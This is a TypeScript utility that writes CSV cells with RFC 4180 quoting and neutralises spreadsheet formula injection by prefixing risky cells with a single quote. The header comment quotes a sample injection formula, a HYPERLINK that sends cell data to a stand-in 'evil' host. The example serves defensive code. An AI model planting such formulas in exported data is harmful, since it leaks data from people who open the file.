// Formula-safe CSV (RFC 4180 quoting + OWASP "CSV injection" neutralisation). Every CSV the product
// writes goes through csvCell/csvLine: captured values (SNI, Host, User-Agent, file names) are
// attacker-chosen, and a spreadsheet runs a cell that starts with = + - @ (or a tab/CR that it
// strips before looking) as a formula: `=HYPERLINK("http://evil/?"&A1, "open")` leaks data on click.

/** First characters a spreadsheet may read as the start of a formula (OWASP list). */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One cell. Strings that could start a formula get a leading single quote, which spreadsheets show
 * as text and which a reader can strip; JS numbers are written as they are (a number such as -5 is
 * a value, never a formula, and quoting it would turn it into text). Quotes, commas, CR and LF are
 * quoted RFC 4180 style, and so is any cell that was neutralised, so the quote survives editors
 * that trim.
 */
export function csvCell(value: unknown): string {
  if (value === undefined || value === null) return '';
  if (typeof value === 'number' || typeof value === 'bigint')
    return Number.isFinite(Number(value)) || typeof value === 'bigint' ? String(value) : '';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  let s = Array.isArray(value) ? value.map((v) => String(v)).join(';') : String(value);
  const formula = FORMULA_START.test(s);
  if (formula) s = `'${s}`;
  return formula || /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** One line (without the line break) of cells. */
export function csvLine(cells: readonly unknown[]): string {
  return cells.map(csvCell).join(',');
}
